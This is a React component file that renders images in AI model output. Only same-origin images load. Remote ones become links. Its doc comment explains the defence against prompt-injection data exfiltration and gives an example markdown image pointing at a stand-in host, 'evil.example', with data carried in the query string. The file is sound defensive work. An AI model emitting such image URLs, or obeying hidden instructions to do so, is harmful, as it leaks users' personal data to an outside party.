import type { ComponentProps } from 'react';

/**
 * An image in model output is loaded only from Qiao itself. A remote image
 * would be fetched the moment the answer renders, so a model (or an instruction hidden in a
 * document) could write `![](https://evil.example/?d=…)` and have the browser send whatever
 * the URL carries — personal data restored into the answer included. A remote image becomes a
 * link the reader may choose to open.
 */
export function AnswerImage({ src, alt, title }: ComponentProps<'img'>) {
  if (typeof src === 'string' && isOwnImage(src)) return <img src={src} alt={alt ?? ''} title={title} />;
  if (typeof src !== 'string' || !/^https?:\/\//i.test(src)) return <span>{alt}</span>;
  return (
    <a href={src} target="_blank" rel="noopener noreferrer nofollow" title={src}>
      🖼 {alt || new URL(src).host}
    </a>
  );
}

function isOwnImage(src: string): boolean {
  return src.startsWith('/') && !src.startsWith('//');
}
